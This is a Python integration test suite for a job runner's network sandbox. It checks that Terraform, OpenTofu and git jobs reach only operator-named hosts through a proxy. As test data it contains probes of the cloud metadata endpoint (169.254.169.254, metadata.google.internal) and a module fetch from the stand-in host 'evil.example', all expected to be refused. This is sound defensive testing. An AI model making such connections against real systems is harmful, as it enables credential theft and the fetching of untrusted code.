#!/usr/bin/env python3
"""The network of a job: nothing but its own way out, and that leads only where the operator said.

    tests/integration/test_network.py [CASE ...]

Results: build/report/results/network.tsv."""

import json
import os
import signal
import socketserver
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "lib"))
from sluice import Skip, expect, run_cases  # noqa: E402
from runner_lab import APPLY, APPLY_STEP, INIT, PLAN, PLAN_STEP, PREPARE, RUN, Lab, cli_config, eventually, tool  # noqa: E402

CASES = []

# What a job can do: a connection by itself, or through the door that it is told of.
CLIENT = """
import os, socket, sys
def direct(host, port):
    try:
        socket.create_connection((host, port), 3).close()
        return "open"
    except OSError as error:
        return "closed"
def through(host, port):
    door = socket.create_connection(("127.0.0.1", int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1])), 5)
    door.sendall(("CONNECT %s:%d HTTP/1.1\\r\\n\\r\\n" % (host, port)).encode())
    line = door.recv(4000).decode().split("\\r\\n")[0]
    if " 200 " not in line:
        return line
    door.sendall(b"hello\\n")
    return door.recv(100).decode()
"""


class Echo(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(b"heard " + self.rfile.readline())
        self.server.heard += 1


class Listener:
    """Somebody on this machine's loopback whom jobs want to reach."""

    def __enter__(self):
        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Echo)
        self.server.heard = 0
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_):
        self.server.shutdown()
        self.server.server_close()


def case(function):
    def run():
        lab = Lab()
        try:
            function(lab)
        finally:
            lab.close()
    CASES.append((function.__name__, run))
    return function


def python(code):
    return {"kind": RUN, "command": "python3 - <<'END'\n%s\n%s\nEND" % (CLIENT, code)}


def say(lab, code):
    """What a command of the workflow prints, in the sandbox of a plan."""
    tree = lab.tree("a", {"main.tf": "# stub: create=1\n"})
    plan = lab.run(PLAN, tree, steps=[python(code), {"kind": INIT}, {"kind": PLAN_STEP}])
    expect(plan.outcome, "ok", plan)
    return plan.output


def verdicts(lab, job=1):
    with open(os.path.join(lab.job_dir(job), "events.ndjson")) as lines:
        events = [json.loads(line) for line in lines]
    return [(e["network"]["verdict"], e["network"]["host"]) for e in events if "network" in e]


@case
def nothing_is_reached_directly(lab):
    with Listener() as other:
        lab.start()
        said = say(lab, "print(direct('127.0.0.1', %d), direct('169.254.169.254', 80), direct('8.8.8.8', 443))" % other.port)
        assert "closed closed closed" in said, said
        expect(other.server.heard, 0)


@case
def what_is_named_is_reached(lab):
    with Listener() as other:
        lab.start(inside="127.0.0.1:%d" % other.port)
        said = say(lab, "print(through('127.0.0.1', %d))" % other.port)
        assert "heard hello" in said, said
        expect(verdicts(lab)[0], ("allowed", "127.0.0.1"))


@case
def what_is_not_named_is_refused_and_said(lab):
    with Listener() as other:
        lab.start(hosts="registry.example")
        said = say(lab, "print(through('127.0.0.1', %d))\nprint(through('other.example', 443))" % other.port)
        assert said.count("403 sluice: no connection to") == 2 and "not on the list" in said, said
        expect(verdicts(lab), [("refused", "127.0.0.1"), ("refused", "other.example")])
        expect(other.server.heard, 0)


@case
def a_door_of_the_machine_is_the_only_one(lab):
    """Tier landlock has no network of its own: each job gets a port, and may connect to no other."""
    with Listener() as other:
        lab.start(tier="landlock", require="landlock", inside="127.0.0.1:%d" % other.port)
        said = say(lab, "print(direct('127.0.0.1', %d), direct('127.0.0.1', 3128), direct('169.254.169.254', 80))\n"
                        "print(through('127.0.0.1', %d))\nprint(through('other.example', 443))" % (other.port, other.port))
        assert "closed closed closed" in said and "heard hello" in said and "403 sluice" in said, said
        expect(other.server.heard, 1)


@case
def a_named_host_must_be_a_public_one(lab):
    with Listener() as other:
        lab.start(hosts="127.0.0.1:%d" % other.port)
        said = say(lab, "print(through('127.0.0.1', %d))" % other.port)
        assert "403 sluice" in said and "not a public one" in said, said
        expect(other.server.heard, 0)


@case
def a_command_has_no_way_out_by_default(lab):
    lab.start()
    said = say(lab, "print(sorted(name for name in os.environ if 'proxy' in name.lower()), direct('127.0.0.1', 3128))")
    assert "[] closed" in said, said


@case
def the_metadata_service_is_nobody_by_default(lab):
    lab.start(hosts="registry.example")
    said = say(lab, "print(through('169.254.169.254', 80), through('metadata.google.internal', 80))")
    expect(said.count("403 sluice"), 2, said)


@case
def an_apply_keeps_its_network_without_the_server(lab):
    """Server, launcher and supervisor die; what the apply fetches meanwhile still comes."""
    with Listener() as other:
        lab.start(inside="127.0.0.1:%d" % other.port)
        tree = lab.tree("a", {"main.tf": "# stub: create=1 apply-log=%s/log\n" % lab.seen})
        fetch = python("import time\nfor i in range(20):\n    assert 'heard' in through('127.0.0.1', %d)\n"
                       "    time.sleep(0.1)\nopen('%s/done', 'w').close()" % (other.port, lab.seen))
        plan = lab.run(PLAN, tree)
        job = lab.ask(APPLY, tree, plan_blob=plan.plan_blob, plan_job=1, steps=[fetch, {"kind": APPLY_STEP}])
        eventually(lambda: other.server.heard >= 3)
        with open(os.path.join(lab.job_dir(job), "lock")) as lock:
            supervisor = int(lock.read())
        lab.driver.kill()
        os.kill(supervisor, signal.SIGKILL)
        eventually(lambda: os.path.exists(os.path.join(lab.seen, "done")), 20)
        expect(other.server.heard, 20)


@case
def the_way_out_ends_with_its_job(lab):
    with Listener() as other:
        lab.start(inside="127.0.0.1:%d" % other.port)
        say(lab, "print(through('127.0.0.1', %d))" % other.port)
        mine = os.path.join(lab.data, "jobs")

        def holders():
            found = []
            for pid in filter(str.isdigit, os.listdir("/proc")):
                try:
                    links = [os.readlink("/proc/%s/fd/%s" % (pid, fd)) for fd in os.listdir("/proc/%s/fd" % pid)]
                except OSError:
                    continue
                found += [pid for link in links if link.startswith(mine) and link.endswith("events.ndjson")]
            return found
        eventually(lambda: not [pid for pid in holders() if int(pid) != os.getpid()])


# A git that would like to go elsewhere.
GIT = "#!/usr/bin/python3\n" + CLIENT.replace("%", "%%") + """
own, other = %d, %d
print("direct", direct("127.0.0.1", own), direct("127.0.0.1", other), direct("169.254.169.254", 80))
print("own", through("127.0.0.1", own), "other", through("127.0.0.1", other), "metadata", through("169.254.169.254", 80),
      "name", through("other.example", 443))
sys.exit(7)
"""


def git_says(lab, url, own, other, **options):
    program = os.path.join(lab.root, "git")
    with open(program, "w", encoding="utf-8") as out:
        out.write(GIT % (own, other))
    os.chmod(program, 0o755)
    lab.start(git=program, **options)
    lab.run(PREPARE, "", tool="git", clone_url=url, head="0" * 40, head_ref="h", base_ref="main")
    with open(os.path.join(lab.job_dir(1), "output.log"), encoding="utf-8") as text:
        return text.read()


def git_reaches_its_host_alone(scheme, tier):
    lab = Lab()
    try:
        with Listener() as own, Listener() as other:
            said = git_says(lab, "%s://somebody@127.0.0.1:%d/o/r.git" % (scheme, own.port), own.port, other.port, tier=tier, require=tier)
            assert "direct closed closed closed" in said and "own heard hello" in said, said
            expect((said.count("403 sluice"), own.server.heard, other.server.heard), (3, 1, 0), said)
            expect(verdicts(lab)[0], ("allowed", "127.0.0.1"))
    finally:
        lab.close()


CASES.append(("git_reaches_its_host_alone", lambda: git_reaches_its_host_alone("https", "full")))
CASES.append(("git_reaches_its_host_alone_in_tier_landlock", lambda: git_reaches_its_host_alone("http", "landlock")))


def real(name, program):
    """Terraform itself says why, and gets no further."""
    found = tool(program)
    if found is None:
        raise Skip("%s is neither in .tools nor in PATH" % program)
    lab = Lab(**{"terraform": "", name: found})
    if cli_config():
        lab.options["cli_config"] = cli_config()
    try:
        lab.start()
        tree = lab.tree("a", {"main.tf": 'module "m" {\n  source = "https://evil.example/m.zip"\n}\n'})
        began = time.time()
        plan = lab.run(PLAN, tree, tool=name)
        expect((plan.outcome, plan.step), ("tool_failed", "init"), plan)
        text = " ".join((plan.failure + plan.output).replace("│", " ").split())
        assert "not on the list of this step" in text, text
        assert time.time() - began < 30, "the tool was left to try again and again"
        expect(set(verdicts(lab)), {("refused", "evil.example")})
    finally:
        lab.close()


CASES.append(("terraform_says_who_was_refused", lambda: real("terraform", "terraform")))
CASES.append(("opentofu_says_who_was_refused", lambda: real("opentofu", "tofu")))


def main():
    run_cases("network", CASES)


if __name__ == "__main__":
    main()
